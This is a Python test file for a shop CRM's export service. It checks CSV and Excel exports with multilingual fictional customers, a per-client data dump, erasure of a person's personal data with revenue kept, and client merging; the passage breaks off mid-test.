"""Data out and a person's rights over their data (app/services/io/export.py):
export_table, client_data, erase_client and merge_clients."""

from __future__ import annotations

import csv
import json
from datetime import date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import settings as hyp_settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import func, select

from app.errors import DomainError, NotFoundError, ValidationError
from app.models import (
    Client,
    Complaint,
    ComplaintCheck,
    ConsentEvent,
    Contact,
    Membership,
    PersonalDate,
    Purchase,
    Relative,
    SegmentHistory,
    Tag,
    Task,
    client_tags,
)
from app.models.enums import (
    Channel,
    DateKind,
    Direction,
    Outcome,
    Relation,
    Segment,
    TaskKind,
    TaskStatus,
    Tone,
)
from app.services import clients as client_service
from app.services.complaints import open_complaint
from app.services.io.export import (
    FORMULA_START,
    client_data,
    csv_text,
    erase_client,
    export_table,
    merge_clients,
)
from app.services.validation import phone_digits

TODAY = date(2026, 11, 1)
NOW = datetime(2026, 11, 1, 10, 0)
RULES = client_service.StatusRules(today=TODAY, new_until_purchases=3, default_gap_days=90,
                       gap_multiplier=Decimal(2), lapsed_after_days=365)

CLIENT_KEYS = ["id", "name", "kind", "card_number", "phone", "email", "preferred_channel",
               "do_not_contact", "marketing_consent", "marketing_consent_on",
               "source_channel", "referred_by_id", "group", "group_reason", "tags",
               "first_purchase_on", "last_purchase_on", "purchases", "value_12m",
               "preferences", "notes", "created_at"]
PURCHASE_KEYS = ["id", "client_id", "client", "card_number", "date", "item", "quantity",
                 "amount", "refund", "complaint_id", "note"]
CONTACT_KEYS = ["id", "client_id", "client", "at", "channel", "direction", "purpose",
                "outcome", "tone", "minutes", "decline_reason", "note"]
KEYS = {"clients": CLIENT_KEYS, "purchases": PURCHASE_KEYS, "contacts": CONTACT_KEYS}


# --------------------------------------------------------------------------- helpers


def save(db, data: client_service.ClientData) -> int:
    with db.session() as s:
        return client_service.save_client(s, data, region="PL", today=TODAY)


def purchases(*rows) -> list[client_service.PurchaseData]:
    """(day, amount[, item[, note[, is_credit]]]) -> PurchaseData list."""
    out = []
    for r in rows:
        day, amount, item, note, credit = (tuple(r) + ("", "", False)[len(r) - 2:])[:5]
        out.append(client_service.PurchaseData(purchased_on=day, amount=Decimal(amount), item=item,
                                   note=note, is_credit=credit))
    return out


def read_csv(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh, delimiter=";"))


def read_xlsx(path: Path, sheet: str) -> list[tuple]:
    wb = load_workbook(path)
    try:
        assert wb.sheetnames == [sheet]
        return [tuple(r) for r in wb[sheet].iter_rows(values_only=True)]
    finally:
        wb.close()


def dt_text(v: datetime) -> str:
    return v.strftime("%Y-%m-%d %H:%M")


def add_contact(s, client_id: int, at: datetime, **kw) -> int:
    k = Contact(client_id=client_id, at=at, channel=kw.pop("channel", Channel.PHONE),
                direction=kw.pop("direction", Direction.OUTBOUND),
                purpose=kw.pop("purpose", TaskKind.FOLLOW_UP),
                outcome=kw.pop("outcome", Outcome.REACHED), **kw)
    s.add(k)
    s.flush()
    return k.id


def add_task(s, client_id: int, due: date, status: TaskStatus = TaskStatus.OPEN,
             note: str = "") -> int:
    t = Task(client_id=client_id, kind=TaskKind.MANUAL, due_on=due, status=status,
             note=note, rule="")
    s.add(t)
    s.flush()
    return t.id


def tag_names(s, client_id: int) -> list[str]:
    return sorted(s.scalars(select(Tag.name).join(client_tags, client_tags.c.tag_id == Tag.id)
                            .where(client_tags.c.client_id == client_id)))


def count_where(s, model, client_id: int) -> int:
    return s.scalar(select(func.count()).select_from(model)
                    .where(model.client_id == client_id))


def purchase_totals(s) -> tuple[int, Decimal]:
    amounts = list(s.scalars(select(Purchase.amount)))
    return len(amounts), sum(amounts, Decimal(0))


# --------------------------------------------------------------------------- export_table


@pytest.fixture
def shop(db):
    """A Polish client, a Cyrillic one referred by her, one in the Trash, one erased,
    with purchases and contacts."""
    ids = {}
    ids["lucja"] = save(db, client_service.ClientData(
        name="Łucja Żółtowska", phone="601 234 567", email="lucja@example.pl",
        external_ref="K-001", preferred_channel=Channel.PHONE, marketing_consent=True,
        marketing_consent_on=date(2026, 1, 15), source_channel="polecenie",
        segment_override=Segment.A, segment_override_reason="rodzina",
        notes="Lubi róże", preferences="bez glutenu", tags=["VIP"],
        purchases=purchases((date(2026, 3, 1), "12.50", "Róża czerwona", "na urodziny"),
                            (date(2026, 5, 10), "100.00", "Bukiet"))))
    ids["yulia"] = save(db, client_service.ClientData(
        name="Юлия Петрова", email="yulia@example.ru", do_not_contact=True,
        referred_by_id=ids["lucja"], notes="Звонить вечером",
        purchases=purchases((date(2026, 4, 2), "7.05", "Тюльпаны"),
                            (date(2026, 4, 20), "-7.05", "Возврат", "", True))))
    ids["trash"] = save(db, client_service.ClientData(
        name="Tomasz Kosz", external_ref="K-003",
        purchases=purchases((date(2026, 2, 2), "30.00", "Storczyk"))))
    ids["erased"] = save(db, client_service.ClientData(
        name="Ewa Zapomniana", phone="602 111 222", external_ref="K-004",
        purchases=purchases((date(2026, 1, 5), "45.99", "Wieniec", "prywatne"))))
    with db.session() as s:
        add_contact(s, ids["lucja"], datetime(2026, 5, 3, 14, 30), tone=Tone.POSITIVE,
                    duration_seconds=90, note="Dziękuje za róże")
        add_contact(s, ids["yulia"], datetime(2026, 5, 4, 9, 5), channel=Channel.SMS,
                    direction=Direction.INBOUND, purpose=TaskKind.MANUAL,
                    outcome=Outcome.DECLINED, decline_reason="дорого", note="Позже")
        add_contact(s, ids["erased"], datetime(2026, 5, 5, 11, 0), note="tajne")
        add_contact(s, ids["trash"], datetime(2026, 5, 6, 12, 0), note="w koszu")
        client_service.soft_delete(s, [ids["trash"]])
        erase_client(s, ids["erased"], NOW)
    return ids


def expected_clients(db, ids) -> list[list[str]]:
    with db.session() as s:
        lucja, yulia = s.get(Client, ids["lucja"]), s.get(Client, ids["yulia"])
        created = {c.id: dt_text(c.created_at) for c in (lucja, yulia)}
    return [
        # a phone beginning with "+" is written as text: Excel would read it as a number
        [str(ids["lucja"]), "Łucja Żółtowska", "person", "K-001", "'+48601234567",
         "lucja@example.pl", "phone", "0", "1", "2026-01-15", "polecenie", "", "A",
         "rodzina", "VIP", "2026-03-01", "2026-05-10", "2", "112.50", "bez glutenu",
         "Lubi róże", created[ids["lucja"]]],
        [str(ids["yulia"]), "Юлия Петрова", "person", "", "", "yulia@example.ru", "", "1",
         "0", "", "", str(ids["lucja"]), "", "", "", "2026-04-02", "2026-04-02", "1",
         "0.00", "", "Звонить вечером", created[ids["yulia"]]],
    ]


def export_csv(db, what: str, path: Path, headers=None) -> tuple[int, list[list[str]]]:
    with db.session() as s:
        n = export_table(s, what, path, headers)
    return n, read_csv(path)


def test_clients_csv_exact_rows_without_trash_or_erased(db, shop, tmp_path):
    n, rows = export_csv(db, "clients", tmp_path / "clients.csv")
    assert rows[0] == CLIENT_KEYS
    assert rows[1:] == expected_clients(db, shop)
    assert n == 2
    raw = (tmp_path / "clients.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs
    assert "Łucja Żółtowska".encode() in raw and "Юлия Петрова".encode() in raw
    assert b"Tomasz Kosz" not in raw and b"Zapomniana" not in raw
    assert f"#{shop['erased']}".encode() not in raw


def test_clients_csv_translated_headers(db, shop, tmp_path):
    headers = {k: f"H-{k}" for k in CLIENT_KEYS}
    headers["name"] = "Imię i nazwisko"
    headers["phone"] = "Телефон"
    _, rows = export_csv(db, "clients", tmp_path / "c.csv", headers)
    assert rows[0] == [headers[k] for k in CLIENT_KEYS]
    assert rows[0][1] == "Imię i nazwisko" and rows[0][4] == "Телефон"
    assert rows[1:] == expected_clients(db, shop)


def test_partial_headers_fall_back_to_the_key(db, shop, tmp_path):
    _, rows = export_csv(db, "purchases", tmp_path / "p.csv", {"amount": "Kwota"})
    assert rows[0] == [("Kwota" if k == "amount" else k) for k in PURCHASE_KEYS]


def expected_purchases(db, ids) -> list[list[str]]:
    with db.session() as s:
        pid = {(p.client_id, p.purchased_on): p.id for p in s.scalars(select(Purchase))}
    L, Y, T, E = ids["lucja"], ids["yulia"], ids["trash"], ids["erased"]
    return [
        [str(pid[E, date(2026, 1, 5)]), str(E), "", "", "2026-01-05", "Wieniec", "1.000",
         "45.99", "0", "", ""],
        [str(pid[T, date(2026, 2, 2)]), str(T), "Tomasz Kosz", "K-003", "2026-02-02",
         "Storczyk", "1.000", "30.00", "0", "", ""],
        [str(pid[L, date(2026, 3, 1)]), str(L), "Łucja Żółtowska", "K-001", "2026-03-01",
         "Róża czerwona", "1.000", "12.50", "0", "", "na urodziny"],
        [str(pid[Y, date(2026, 4, 2)]), str(Y), "Юлия Петрова", "", "2026-04-02",
         "Тюльпаны", "1.000", "7.05", "0", "", ""],
        [str(pid[Y, date(2026, 4, 20)]), str(Y), "Юлия Петрова", "", "2026-04-20",
         "Возврат", "1.000", "-7.05", "1", "", ""],
        [str(pid[L, date(2026, 5, 10)]), str(L), "Łucja Żółtowska", "K-001", "2026-05-10",
         "Bukiet", "1.000", "100.00", "0", "", ""],
    ]


def test_purchases_csv_keeps_trash_and_erased_sales_exact(db, shop, tmp_path):
    n, rows = export_csv(db, "purchases", tmp_path / "purchases.csv")
    assert rows[0] == PURCHASE_KEYS
    assert rows[1:] == expected_purchases(db, shop)
    assert n == 6
    # the erased client's sale is there, anonymous; its note is gone
    assert "prywatne" not in (tmp_path / "purchases.csv").read_text(encoding="utf-8-sig")


def test_contacts_csv_exact(db, shop, tmp_path):
    with db.session() as s:
        kid = {k.client_id: k.id for k in s.scalars(select(Contact))}
    n, rows = export_csv(db, "contacts", tmp_path / "contacts.csv")
    L, Y, T = shop["lucja"], shop["yulia"], shop["trash"]
    assert rows[0] == CONTACT_KEYS
    assert rows[1:] == [
        [str(kid[L]), str(L), "Łucja Żółtowska", "2026-05-03 14:30", "phone", "outbound",
         "follow_up", "reached", "positive", "1.5", "", "Dziękuje za róże"],
        [str(kid[Y]), str(Y), "Юлия Петрова", "2026-05-04 09:05", "sms", "inbound",
         "manual", "declined", "", "", "дорого", "Позже"],
        [str(kid[T]), str(T), "Tomasz Kosz", "2026-05-06 12:00", "phone", "outbound",
         "follow_up", "reached", "", "", "", "w koszu"],
    ]
    assert n == 3
    assert "tajne" not in (tmp_path / "contacts.csv").read_text(encoding="utf-8-sig")


def xlsx_norm(v):
    """openpyxl reads an empty text cell back as None and a date as a datetime."""
    return None if v == "" else v


def test_clients_xlsx_exact(db, shop, tmp_path):
    path = tmp_path / "clients.xlsx"
    with db.session() as s:
        n = export_table(s, "clients", path, {"name": "Imię"})
        lucja, yulia = s.get(Client, shop["lucja"]), s.get(Client, shop["yulia"])
        # a spreadsheet keeps a time to the millisecond (a server's clock has microseconds)
        created = {c.id: c.created_at.replace(microsecond=0) + timedelta(
            milliseconds=round(c.created_at.microsecond / 1000)) for c in (lucja, yulia)}
    rows = read_xlsx(path, "clients")
    assert n == 2
    assert list(rows[0]) == [("Imię" if k == "name" else k) for k in CLIENT_KEYS]
    L, Y = shop["lucja"], shop["yulia"]
    expected = [
        (L, "Łucja Żółtowska", "person", "K-001", "+48601234567", "lucja@example.pl",
         "phone", False, True, datetime(2026, 1, 15), "polecenie", None, "A", "rodzina",
         "VIP", datetime(2026, 3, 1), datetime(2026, 5, 10), 2, 112.5, "bez glutenu",
         "Lubi róże", created[L]),
        (Y, "Юлия Петрова", "person", None, None, "yulia@example.ru", None, True, False,
         None, None, L, None, None, None, datetime(2026, 4, 2), datetime(2026, 4, 2), 1,
         0.0, None, "Звонить вечером", created[Y]),
    ]
    assert [tuple(xlsx_norm(v) for v in r) for r in rows[1:]] == expected


def test_purchases_xlsx_exact(db, shop, tmp_path):
    path = tmp_path / "purchases.xlsx"
    with db.session() as s:
        n = export_table(s, "purchases", path)
    rows = read_xlsx(path, "purchases")
    assert n == 6
    assert list(rows[0]) == PURCHASE_KEYS
    expected = []
    for r in expected_purchases(db, shop):
        expected.append((int(r[0]), int(r[1]), r[2] or None, r[3] or None,
                         datetime.fromisoformat(r[4]), r[5] or None, 1.0, float(r[7]),
                         r[8] == "1", None, r[10] or None))
    assert [tuple(xlsx_norm(v) for v in r) for r in rows[1:]] == expected


def test_contacts_xlsx_exact(db, shop, tmp_path):
    path = tmp_path / "contacts.xlsx"
    with db.session() as s:
        n = export_table(s, "contacts", path)
        kid = {k.client_id: k.id for k in s.scalars(select(Contact))}
    rows = read_xlsx(path, "contacts")
    L, Y, T = shop["lucja"], shop["yulia"], shop["trash"]
    assert n == 3
    assert list(rows[0]) == CONTACT_KEYS
    assert [tuple(xlsx_norm(v) for v in r) for r in rows[1:]] == [
        (kid[L], L, "Łucja Żółtowska", datetime(2026, 5, 3, 14, 30), "phone", "outbound",
         "follow_up", "reached", "positive", 1.5, None, "Dziękuje za róże"),
        (kid[Y], Y, "Юлия Петрова", datetime(2026, 5, 4, 9, 5), "sms", "inbound", "manual",
         "declined", None, None, "дорого", "Позже"),
        (kid[T], T, "Tomasz Kosz", datetime(2026, 5, 6, 12, 0), "phone", "outbound",
         "follow_up", "reached", None, None, None, "w koszu"),
    ]


@pytest.mark.parametrize("what", ["clients", "purchases", "contacts"])
@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".CSV"])
def test_empty_tables_still_write_the_header(db, tmp_path, what, suffix):
    path = tmp_path / f"empty{suffix}"
    with db.session() as s:
        assert export_table(s, what, path) == 0
    if suffix.lower() == ".csv":
        assert read_csv(path) == [KEYS[what]]
    else:
        assert read_xlsx(path, what) == [tuple(KEYS[what])]


def test_empty_header_uses_the_translated_headers(db, tmp_path):
    with db.session() as s:
        export_table(s, "purchases", tmp_path / "p.csv", {"amount": "Сумма", "date": "Data"})
    assert read_csv(tmp_path / "p.csv") == [
        [{"amount": "Сумма", "date": "Data"}.get(k, k) for k in PURCHASE_KEYS]]


def test_only_trash_and_erased_clients_gives_header_only(db, make_client, tmp_path):
    a = make_client("Adam Kosz")
    b = make_client("Beata Usunięta")
    with db.session() as s:
        client_service.soft_delete(s, [a])
        erase_client(s, b, NOW)
        assert export_table(s, "clients", tmp_path / "c.csv") == 0
    assert read_csv(tmp_path / "c.csv") == [CLIENT_KEYS]


@pytest.mark.parametrize("name", ["out.txt", "out.xls", "out", "out.csv.bak", "out.json"])
def test_bad_suffix_is_refused(db, make_client, tmp_path, name):
    make_client("Anna Nowak")
    with db.session() as s, pytest.raises(DomainError) as err:
        export_table(s, "clients", tmp_path / name)
    assert err.value.code == "export.format"
    assert not (tmp_path / name).exists()


@pytest.mark.parametrize("what", ["staff", "Clients", "", "tasks"])
def test_unknown_table_is_a_validation_error(db, tmp_path, what):
    with db.session() as s, pytest.raises(ValidationError) as err:
        export_table(s, what, tmp_path / "x.csv")
    assert [e.code for e in err.value.errors] == ["export.what"]
    assert err.value.errors[0].field == "what"
    assert not (tmp_path / "x.csv").exists()


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
@pytest.mark.parametrize("with_rows", [True, False])
def test_unwritable_path_is_a_file_write_error(db, make_client, tmp_path, suffix, with_rows):
    if with_rows:
        make_client("Anna Nowak", purchases=[(date(2026, 3, 1), "10.00")])
    path = tmp_path / "no such folder" / f"out{suffix}"
    with db.session() as s, pytest.raises(DomainError) as err:
        export_table(s, "purchases", path)
    assert err.value.code == "file.write"
    assert err.value.values["path"] == str(path)
    assert not path.parent.exists()


# --------------------------------------------------------------------------- one rich client


def rich_client(db, name: str, *, external_ref: str = "", phone: str = "", email: str = "",
                notes: str = "", tags=(), consent: bool = True,
                purchase_rows=(), referred_by_id=None, relative="Jan",
                membership: bool = True) -> int:
    rel = client_service.RelativeData(name=f"{relative} ({name})", relation=Relation.SPOUSE, note="mąż")
    data = client_service.ClientData(
        name=name, external_ref=external_ref, phone=phone, email=email, notes=notes,
        preferences="herbata", tags=list(tags), marketing_consent=consent,
        marketing_consent_on=date(2026, 1, 10) if consent else None,
        referred_by_id=referred_by_id, contact_from=None, contact_to=None,
        relatives=[rel],
        dates=[client_service.PersonalDateData(kind=DateKind.BIRTHDAY, month=3, day=14, year=1980),
               client_service.PersonalDateData(kind=DateKind.NAME_DAY, month=7, day=26,
                                   relative_key=rel.key, label="imieniny")],
        purchases=purchases(*purchase_rows),
        memberships=[client_service.MembershipData(plan="Karnet miesięczny", starts_on=date(2026, 10, 1),
                                       ends_on=date(2026, 10, 31), price=Decimal("99.90"),
                                       note="student")] if membership else [])
    return save(db, data)


def add_extras(db, cid: int, *, contacts: int = 1, tasks=(TaskStatus.OPEN,),
               complaint: str | None = "Zwiędłe kwiaty", quarters=()) -> dict:
    out = {"contacts": [], "tasks": [], "complaint": None}
    with db.session() as s:
        for i in range(contacts):
            out["contacts"].append(add_contact(
                s, cid, datetime(2026, 6, 1 + i, 10, 0), tone=Tone.NEUTRAL,
                duration_seconds=60, note=f"rozmowa {i}", decline_reason="drogo"))
        for i, st in enumerate(tasks):
            out["tasks"].append(add_task(s, cid, date(2026, 11, 10 + i), st,
                                         note=f"zadzwonić {i}"))
        if complaint is not None:
            kid = open_complaint(s, cid, complaint, now=datetime(2026, 6, 15, 9, 0))
            k = s.get(Complaint, kid)
            k.client_request, k.apology = "zwrot pieniędzy", "Przepraszamy"
            k.review_presentation = "była zdenerwowana"
            out["complaint"] = kid
        for quarter, seg in quarters:
            s.add(SegmentHistory(client_id=cid, quarter=quarter, segment=seg,
                                 reason=f"{quarter} review", value_12m=Decimal("10.00")))
    return out


def test_client_data_contains_everything_and_is_json(db, staff):
    cid = rich_client(db, "Зоя Ковальчик", external_ref="Z-1", phone="601 234 567",
                      email="zoya@example.com", notes="Уважает тишину",
                      tags=["VIP", "Kawa"],
                      purchase_rows=[(date(2026, 3, 1), "12.50", "Róże", "prezent")])
    extras = add_extras(db, cid, contacts=2, tasks=(TaskStatus.OPEN, TaskStatus.DONE),
                        quarters=[("2026Q1", Segment.B), ("2026Q2", Segment.A)])
    other = rich_client(db, "Inna Osoba", purchase_rows=[(date(2026, 3, 2), "5.00")])
    add_extras(db, other)
    with db.session() as s:
        data = client_data(s, cid)
        c = s.get(Client, cid)
        client_version = c.version
    text = json.dumps(data, ensure_ascii=False)
    assert "Зоя Ковальчик" in text and "Уважает тишину" in text
    assert json.loads(text) == data

    client = data["client"]
    for hidden in ("search_text", "sort_name", "phone_digits", "version"):
        assert hidden not in client
    assert client_version >= 1
    assert client["id"] == cid
    assert client["name"] == "Зоя Ковальчик"
    assert client["external_ref"] == "Z-1"
    assert client["phone"] == "+48601234567"
    assert client["email"] == "zoya@example.com"
    assert client["notes"] == "Уважает тишину"
    assert client["preferences"] == "herbata"
    assert client["kind"] == "person"
    assert client["marketing_consent"] is True
    assert client["marketing_consent_on"] == "2026-01-10"
    assert client["first_purchase_on"] == "2026-03-01"
    assert client["purchase_count"] == 2  # the membership's price is a sale too
    assert client["value_12m"] == "112.40"
    assert client["erased_at"] is None

    assert data["tags"] == ["Kawa", "VIP"]
    assert [(r["name"], r["relation"], r["note"]) for r in data["relatives"]] == [
        ("Jan (Зоя Ковальчик)", "spouse", "mąż")]
    rel_id = data["relatives"][0]["id"]
    assert [(d["kind"], d["month"], d["day"], d["year"], d["relative_id"], d["label"])
            for d in data["personal_dates"]] == [
        ("birthday", 3, 14, 1980, None, ""), ("name_day", 7, 26, None, rel_id, "imieniny")]
    assert [(e["consent"], e["consent_on"]) for e in data["consent_changes"]] == [
        (True, "2026-01-10")]
    assert [(p["purchased_on"], p["amount"], p["item"], p["note"], p["is_credit"],
             p["client_id"]) for p in data["purchases"]] == [
        ("2026-03-01", "12.50", "Róże", "prezent", False, cid),
        ("2026-10-01", "99.90", "Karnet miesięczny", "", False, cid)]
    assert [(m["plan"], m["starts_on"], m["ends_on"], m["price"], m["status"], m["note"])
            for m in data["memberships"]] == [
        ("Karnet miesięczny", "2026-10-01", "2026-10-31", "99.90", "active", "student")]
    assert [k["id"] for k in data["contacts"]] == extras["contacts"]
    assert [(k["at"], k["note"], k["tone"], k["outcome"]) for k in data["contacts"]] == [
        ("2026-06-01T10:00:00", "rozmowa 0", "neutral", "reached"),
        ("2026-06-02T10:00:00", "rozmowa 1", "neutral", "reached")]
    assert len(data["complaints"]) == 1
    k = data["complaints"][0]
    assert (k["id"], k["client_words"], k["client_request"], k["apology"], k["status"]) == (
        extras["complaint"], "Zwiędłe kwiaty", "zwrot pieniędzy", "Przepraszamy", "open")
    assert k["opened_at"] == "2026-06-15T09:00:00"
    assert [(x["item"], x["state"]) for x in k["checklist"]] == [
        (i, "open") for i in range(1, 9)]
    assert all(x["complaint_id"] == k["id"] for x in k["checklist"])
    assert sorted(t["id"] for t in data["tasks"]) == sorted(extras["tasks"])
    assert [(t["due_on"], t["status"], t["note"]) for t in data["tasks"]] == [
        ("2026-11-10", "open", "zadzwonić 0"), ("2026-11-11", "done", "zadzwonić 1")]
    assert [(g["quarter"], g["segment"], g["value_12m"]) for g in data["group_history"]] == [
        ("2026Q1", "B", "10.00"), ("2026Q2", "A", "10.00")]
    # nothing of the other client
    assert "Inna Osoba" not in text


def test_client_data_of_a_bare_client(db, make_client):
    cid = make_client("Ola")
    with db.session() as s:
        data = client_data(s, cid)
    json.dumps(data, ensure_ascii=False)
    assert data["client"]["name"] == "Ola"
    for key in ("relatives", "personal_dates", "consent_changes", "purchases",
                "memberships", "contacts", "complaints", "tasks", "group_history", "tags"):
        assert data[key] == [], key


def test_client_data_unknown_id(db, make_client):
    make_client("Ola")
    with db.session() as s, pytest.raises(NotFoundError) as err:
        client_data(s, 999_999)
    assert err.value.code == "client.not_found"


# --------------------------------------------------------------------------- erase


def test_erase_client_removes_personal_data_and_keeps_revenue(db, tmp_path):
    cid = rich_client(db, "Łucja Żółtowska", external_ref="K-77", phone="601 234 567",
                      email="lucja@example.pl", notes="Lubi róże", tags=["VIP", "Róże"],
                      purchase_rows=[(date(2026, 3, 1), "12.50", "Róże", "dla mamy"),
                                     (date(2026, 9, 9), "87.49", "Bukiet")])
    extras = add_extras(db, cid, contacts=2,
                        tasks=(TaskStatus.OPEN, TaskStatus.SNOOZED, TaskStatus.DONE))
    referred = save(db, client_service.ClientData(name="Polecona Przez Łucję", referred_by_id=cid))
    bystander = rich_client(db, "Jan Obok", tags=["VIP"],
                            purchase_rows=[(date(2026, 4, 4), "20.00")])
    with db.session() as s:
        assert cid in client_service.client_ids(s, client_service.ClientQuery(text="Łucja Żółtowska"), RULES, "PL")
        assert cid in client_service.client_ids(s, client_service.ClientQuery(text="601 234 567"), RULES, "PL")
        before = purchase_totals(s)
        own_before = sorted((p.purchased_on, p.amount, p.item) for p in
                            s.scalars(select(Purchase).where(Purchase.client_id == cid)))
        consents_before = count_where(s, ConsentEvent, cid)
        bystander_rel = count_where(s, Relative, bystander)
        bystander_dates = count_where(s, PersonalDate, bystander)

    with db.session() as s:
        erase_client(s, cid, NOW)

    with db.session() as s:
        c = s.get(Client, cid)
        assert c.name == f"#{cid}"
        assert c.sort_name == f"#{cid}"
        assert c.phone is None and c.phone_digits is None
        assert c.email is None and c.external_ref is None
        assert c.notes == "" and c.preferences == ""
        assert c.erased_at == NOW
        assert c.marketing_consent is False and c.marketing_consent_on is None
        assert c.do_not_contact is True
        assert "łucja" not in (c.search_text or "")
        # relatives, their dates and the client's own dates, tags: gone
        assert count_where(s, Relative, cid) == 0
        assert count_where(s, PersonalDate, cid) == 0
        assert tag_names(s, cid) == []
        # the bystander keeps theirs (and the shared tag)
        assert count_where(s, Relative, bystander) == bystander_rel == 1
        assert count_where(s, PersonalDate, bystander) == bystander_dates == 2
        assert tag_names(s, bystander) == ["VIP"]
        # contacts stay (the call happened) without their notes
        ks = list(s.scalars(select(Contact).where(Contact.client_id == cid)))
        assert sorted(k.id for k in ks) == sorted(extras["contacts"])
        assert all(k.note == "" and k.decline_reason is None for k in ks)
        k = s.get(Complaint, extras["complaint"])
        assert (k.client_words, k.client_request, k.apology, k.review_presentation) == (
            "", "", "", "")
        # open and snoozed tasks cancelled with a reason; the done one stays done
        tasks = {t.id: t for t in s.scalars(select(Task).where(Task.client_id == cid))}
        t_open, t_snoozed, t_done = extras["tasks"]
        for tid in (t_open, t_snoozed):
            assert tasks[tid].status == TaskStatus.CANCELLED
            assert tasks[tid].reason == "client erased"
            assert tasks[tid].closed_at == NOW
        assert tasks[t_done].status == TaskStatus.DONE and tasks[t_done].reason == ""
        assert not [t for t in tasks.values()
                    if t.status in (TaskStatus.OPEN, TaskStatus.SNOOZED)]
        # purchases kept with amounts and dates; notes gone; revenue unchanged
        own_after = list(s.scalars(select(Purchase).where(Purchase.client_id == cid)))
        assert sorted((p.purchased_on, p.amount, p.item) for p in own_after) == own_before
        assert all(p.note == "" for p in own_after)
        assert purchase_totals(s) == before
        # consent withdrawn and logged
        events = list(s.scalars(select(ConsentEvent).where(ConsentEvent.client_id == cid)
                                .order_by(ConsentEvent.id)))
        assert len(events) == consents_before + 1
        assert events[-1].consent is False and events[-1].consent_on == NOW.date()
        # the client they referred loses the link
        assert s.get(Client, referred).referred_by_id is None
        # no longer found by name, phone or card number
        for text in ("Łucja Żółtowska", "łucja", "Żółtowska", "601 234 567", "K-77",
                     "lucja@example.pl"):
            assert cid not in client_service.client_ids(s, client_service.ClientQuery(text=text), RULES, "PL"), text
        n = export_table(s, "clients", tmp_path / "clients.csv")
    rows = read_csv(tmp_path / "clients.csv")
    assert n == 2 and len(rows) == 3
    assert {r[0] for r in rows[1:]} == {str(referred), str(bystander)}
    assert str(cid) not in {r[0] for r in rows[1:]}


def test_erase_without_consent_logs_no_consent_event(db, make_client):
    cid = make_client("Bez Zgody", phone="601 234 567",
                      purchases=[(date(2026, 2, 2), "10.00")])
    with db.session() as s:
        before = count_where(s, ConsentEvent, cid)
        erase_client(s, cid, NOW)
    with db.session() as s:
        assert count_where(s, ConsentEvent, cid) == before
        c = s.get(Client, cid)
        assert c.name == f"#{cid}" and c.marketing_consent is False


def test_erased_client_purchases_are_anonymous_in_the_export(db, tmp_path):
    cid = rich_client(db, "Ewa Zapomniana", external_ref="K-9",
                      purchase_rows=[(date(2026, 2, 2), "33.33", "Wieniec", "prywatne")])
    with db.session() as s:
        erase_client(s, cid, NOW)
        export_table(s, "purchases", tmp_path / "p.csv")
    rows = read_csv(tmp_path / "p.csv")
    assert [r[1:] for r in rows[1:]] == [
        [str(cid), "", "", "2026-02-02", "Wieniec", "1.000", "33.33", "0", "", ""],
        [str(cid), "", "", "2026-10-01", "Karnet miesięczny", "1.000", "99.90", "0", "", ""]]


def test_erase_unknown_client(db, make_client):
    make_client("Ola")
    with db.session() as s, pytest.raises(NotFoundError) as err:
        erase_client(s, 424242, NOW)
    assert err.value.code == "client.not_found"


# --------------------------------------------------------------------------- merge


def snapshot(s, cid: int) -> dict:
    return {
        "purchases": sorted(s.scalars(select(Purchase.id).where(Purchase.client_id == cid))),
        "memberships": sorted(s.scalars(select(Membership.id)
                                        .where(Membership.client_id == cid))),
        "contacts": sorted(s.scalars(select(Contact.id).where(Contact.client_id == cid))),
        "relatives": sorted(s.scalars(select(Relative.id).where(Relative.client_id == cid))),
        "dates": sorted(s.scalars(select(PersonalDate.id)
                                  .where(PersonalDate.client_id == cid))),
        "complaints": sorted(s.scalars(select(Complaint.id)
                                       .where(Complaint.client_id == cid))),
        "tasks": sorted(s.scalars(select(Task.id).where(Task.client_id == cid))),
        "consents": sorted(s.scalars(select(ConsentEvent.id)
                                     .where(ConsentEvent.client_id == cid))),
    }


def test_merge_moves_everything_into_the_kept_client(db, tmp_path):
    # the removed client is created first, so the kept one has the higher id
    other = rich_client(db, "Anna Kowalska", external_ref="K-100", phone="601 234 567",
                        email="anna@example.pl", notes="Alergia na orzechy",
                        tags=["vip", "Herbata"], relative="Piotr",
                        purchase_rows=[(date(2025, 6, 1), "40.00", "Storczyk"),
                                       (date(2026, 9, 1), "60.00", "Bukiet"),
                                       (date(2026, 9, 5), "-10.00", "Zwrot", "", True)])
    keep = rich_client(db, "Anna Kowalska-Nowak", notes="Lubi kawę", tags=["VIP", "Kawa"],
                       relative="Marek", membership=False,
                       purchase_rows=[(date(2026, 2, 1), "100.00", "Kosz")])
    keep_extras = add_extras(db, keep, contacts=1, tasks=(TaskStatus.OPEN,),
                             complaint=None,
                             quarters=[("2026Q1", Segment.A), ("2026Q2", Segment.A)])
    other_extras = add_extras(db, other, contacts=2,
                              tasks=(TaskStatus.OPEN, TaskStatus.DONE),
                              quarters=[("2026Q2", Segment.C), ("2026Q3", Segment.B)])
    referred = save(db, client_service.ClientData(name="Polecona", referred_by_id=other))
    with db.session() as s:
        k_before, o_before = snapshot(s, keep), snapshot(s, other)
        totals_before = purchase_totals(s)
        clients_before = s.scalar(select(func.count()).select_from(Client))
        checks_before = s.scalar(select(func.count()).select_from(ComplaintCheck).where(
            ComplaintCheck.complaint_id == other_extras["complaint"]))
        assert checks_before == 8

    with db.session() as s:
        merge_clients(s, keep, other, TODAY)

    with db.session() as s:
        assert s.get(Client, other) is None
        assert s.scalar(select(func.count()).select_from(Client)) == clients_before - 1
        after = snapshot(s, keep)
        assert snapshot(s, other) == {k: [] for k in after}
        for key in ("purchases", "memberships", "contacts", "relatives", "dates",
                    "complaints", "consents"):
            assert after[key] == sorted(k_before[key] + o_before[key]), key
        assert (len(after["purchases"]), len(after["memberships"]), len(after["contacts"]),
                len(after["relatives"]), len(after["dates"]), len(after["complaints"]),
                len(after["consents"])) == (5, 1, 3, 2, 4, 1, 2)  # + the membership sale
        # the hand-made tasks all moved (the schedule may add rule-made ones)
        assert set(k_before["tasks"] + o_before["tasks"]) <= set(after["tasks"])
        manual = list(s.scalars(select(Task).where(Task.client_id == keep,
